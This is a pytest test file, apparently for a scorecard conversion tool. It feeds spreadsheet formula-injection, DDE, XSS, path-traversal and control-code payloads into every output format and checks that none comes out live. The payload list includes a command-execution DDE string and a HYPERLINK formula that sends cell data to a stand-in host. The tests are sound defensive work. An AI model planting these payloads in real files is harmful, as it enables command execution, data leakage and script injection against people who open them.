"""Formulas, scripts and control codes in every text that a paper can set, through every output.

Every payload carries a token, so that a live place is found by looking for the token where only
our own words may stand.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from lxml import etree

from tests.hostile.making import package, word_parts, word_table
from xlscorecard.cli.main import main
from xlscorecard.model.scorecard import (
    Finding,
    Judgement,
    KeyEntry,
    Kind,
    Observation,
    Paper,
    Quantity,
    Rag,
    Record,
    Role,
    Scorecard,
    Severity,
    Source,
    Status,
    Trend,
)
from xlscorecard.outputs import read_undecided, write_scorecards
from xlscorecard.store.read import read_data

TOKEN = "INJ"
PAYLOADS = (
    "=INJ(1)",
    "=cmd|' /C calc'!INJ",
    "+INJ",
    "-2+INJ",
    "@INJ",
    "\t=INJ",
    "\r=INJ",
    "\n=INJ",
    " =INJ",
    "\u00a0=INJ",
    "\ufeff=INJ",
    "\u200b=INJ",
    "\uff1dINJ",
    "\uff0bINJ",
    "{=INJ}",
    "'=INJ",
    '"=INJ',
    "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"INJ\")",
    "http://192.0.2.1/INJ",
    "file:///etc/INJ",
    "internal:INJ!A1",
    "mailto:INJ@example.org",
    "javascript:alert('INJ')",
    "<script>alert('INJ')</script>",
    "<img src=x onerror=alert('INJ')>",
    "\"><svg onload=alert('INJ')>",
    "]]><f>INJ</f>",
    "&INJ;",
    "&quot; onmouseover=INJ",
    "_x003D_INJ",
    "INJ\x00\x01\x08\x1b[2J",
    "INJ\ud800",
    "INJ\ufffe\uffff",
    "INJ,;\t|\"'\r\n=INJ",
    "../../INJ",
    "INJ" * 12_000,
)  # fmt: skip
_GUARDED = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]")


def scorecard(text: str) -> Scorecard:
    """A scorecard with this text in every field that a paper can set."""
    value = Observation(
        column=text,
        role=Role.ACTUAL,
        period=text,
        raw=text,
        quantity=Quantity(value=Decimal(12), note=text, period=text, relative=text),
    )
    missing = Observation(text, Role.TARGET, None, text, Quantity(status=Status.TBC, note=text))
    record = Record(
        source=Source(text, 1, 1, 1),
        kind=Kind.MEASURE,
        title=text,
        section=(text, text),
        ref=text,
        rag=Rag.RED,
        trend=Trend.UP,
        text=((text, text), ("comment", text)),
        catalogue=text,
        observations=(value, missing),
        judgement=Judgement(Rag.GREEN, rule=text, why=text, trend_why=text, basis=text),
    )
    return Scorecard(
        paper=Paper(text, "0" * 64, title=text, organisation=text, reporting_period=text),
        records=(record,),
        findings=(Finding("code", Severity.LOOK, text, page=1, table=1, row=1, column=text),),
        key=(KeyEntry(text, text, rag=Rag.RED),),
        statements=(text,),
    )


@pytest.fixture(scope="module")
def all_at_once() -> tuple[Scorecard, ...]:
    return tuple(scorecard(text) for text in PAYLOADS)


def assert_harmless_workbook(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            content = archive.read(name)
            if not name.endswith((".xml", ".rels", ".vml")):
                continue
            for element in etree.fromstring(content).iter(etree.Element):
                place = etree.QName(element).localname
                if place in {"f", "formula", "formula1", "formula2", "definedName"}:
                    assert TOKEN not in (element.text or ""), (name, element.text)
                if place == "Relationship":
                    assert TOKEN not in element.get("Target", ""), name
                    assert element.get("TargetMode") != "External", name
            assert "vbaProject" not in name
            assert "externalLink" not in name


def assert_harmless_csv(path: Path) -> None:
    text = path.read_text("utf-8")
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if TOKEN in cell:
                assert not _GUARDED.match(cell), cell


def test_a_workbook_has_no_formula_and_no_link_of_a_paper(
    tmp_path: Path, all_at_once: tuple[Scorecard, ...]
) -> None:
    write_scorecards(all_at_once, tmp_path / "all.xlsx")
    assert_harmless_workbook(tmp_path / "all.xlsx")


@pytest.mark.parametrize("text", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_workbook_of_one_paper_too(tmp_path: Path, text: str) -> None:
    write_scorecards([scorecard(text)], tmp_path / "one.xlsx")
    assert_harmless_workbook(tmp_path / "one.xlsx")


def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path, all_at_once: tuple[Scorecard, ...]) -> None:
    write_scorecards(all_at_once, tmp_path / "all.csv")
    assert_harmless_csv(tmp_path / "all.csv")
    assert_harmless_csv(tmp_path / "all.findings.csv")


@pytest.mark.parametrize("ending", [".json", ".sqlite", ".parquet"])
def test_other_outputs_carry_the_texts_as_they_are(tmp_path: Path, ending: str) -> None:
    texts = [text for text in PAYLOADS if "\ud800" not in text]
    cards = [scorecard(text) for text in texts]
    for number, card in enumerate(cards):
        path = tmp_path / f"{number}{ending}"
        write_scorecards([card], path)
        (read,) = read_data(path)
        assert read.records[0].title == card.records[0].title
        assert read.records[0].observations[0].raw == card.records[0].observations[0].raw
        assert read.findings == card.findings


def test_half_a_letter_does_not_stop_an_output(tmp_path: Path) -> None:
    for ending in (".xlsx", ".csv", ".json", ".sqlite", ".parquet"):
        write_scorecards([scorecard("INJ\ud800")], tmp_path / f"half{ending}")
        (read,) = read_undecided(tmp_path / f"half{ending}") or ()
        (record,) = read.records
        assert record.title.startswith("INJ")
        assert len(record.title) == 4  # half a letter, or a sign in its place


def _run(*arguments: object) -> tuple[int, str]:
    said, errors = io.StringIO(), io.StringIO()
    with redirect_stdout(said), redirect_stderr(errors), pytest.raises(SystemExit) as ended:
        main([str(argument) for argument in arguments])
    assert isinstance(ended.value.code, int)
    return ended.value.code, said.getvalue() + errors.getvalue()


def _escaped(text: str) -> str:
    kept = "".join(letter for letter in text if letter in "\t\n" or letter >= " ")
    return kept.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@pytest.fixture(scope="module")
def word_paper(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real paper whose cells, headers and headings are the payloads."""
    texts = [
        _escaped(text)
        for text in PAYLOADS
        if text.isprintable() and len(text) < 100 and "\ud800" not in text
    ]
    rows = [("Measure", "Target", "Actual", "RAG", texts[0])]
    rows += [(text, text, "12", "Red", text) for text in texts]
    folder = tmp_path_factory.mktemp("injection")
    heading = b"<w:p><w:r><w:t>=INJ heading</w:t></w:r></w:p>"
    return package(word_parts(heading + word_table(*rows)), folder / "=INJ paper.docx")


def test_a_paper_of_payloads_from_end_to_end(tmp_path: Path, word_paper: Path) -> None:
    for ending in (".xlsx", ".csv", ".json"):
        code, _ = _run("convert", word_paper, "-o", tmp_path / f"out{ending}")
        assert code in (0, 1)
    assert_harmless_workbook(tmp_path / "out.xlsx")
    assert_harmless_csv(tmp_path / "out.csv")
    assert_harmless_csv(tmp_path / "out.findings.csv")
    data = json.loads((tmp_path / "out.json").read_text("utf-8"))
    assert any("=INJ(1)" in record["title"] for record in data["records"])


def test_raw_tables_are_texts(tmp_path: Path, word_paper: Path) -> None:
    for ending in (".xlsx", ".csv"):
        assert _run("tables", word_paper, "-o", tmp_path / f"raw{ending}")[0] == 0
    assert_harmless_workbook(tmp_path / "raw.xlsx")
    assert_harmless_csv(tmp_path / "raw.csv")


def test_an_audit_is_texts(tmp_path: Path, word_paper: Path) -> None:
    _run("audit", word_paper, "-o", tmp_path / "audit.csv")
    assert_harmless_csv(tmp_path / "audit.csv")


def test_the_listing_shows_no_control_codes(tmp_path: Path) -> None:
    write_scorecards([scorecard("INJ\x1b[2J\r\nforged line")], tmp_path / "x.sqlite")
    _, said = _run("convert", "-o", tmp_path / "x.sqlite", "--failures")
    assert "\x1b" not in said
    assert len(said.splitlines()) == 1


def test_a_history_is_texts(tmp_path: Path) -> None:
    cards = []
    for number, text in enumerate(PAYLOADS[:30]):
        for quarter in (1, 2):
            card = scorecard(text)
            (record,) = card.records
            value = replace(record.observations[0], period=f"2017/18 Q{quarter}")
            value = replace(value, quantity=Quantity(value=Decimal(10 + quarter), note=text))
            record = replace(record, observations=(value,), catalogue=None)
            paper = replace(card.paper, sha256=f"{number:062}{quarter:02}")
            cards.append(replace(card, paper=paper, records=(record,)))
    write_scorecards(cards, tmp_path / "data.json")
    for ending in (".xlsx", ".csv"):
        code, said = _run(
            "history", tmp_path / "data.json", "-o", tmp_path / f"history{ending}",
            "--charts", tmp_path / "charts",
        )  # fmt: skip
        assert code in (0, 1), said
    assert_harmless_workbook(tmp_path / "history.xlsx")
    assert_harmless_csv(tmp_path / "history.csv")
    charts = list((tmp_path / "charts").glob("*.svg"))
    assert charts
    for chart in charts:
        for element in etree.fromstring(chart.read_bytes()).iter(etree.Element):
            assert etree.QName(element).localname not in {"script", "foreignObject", "image", "a"}
            assert not [name for name in element.attrib if str(name).startswith("on")]
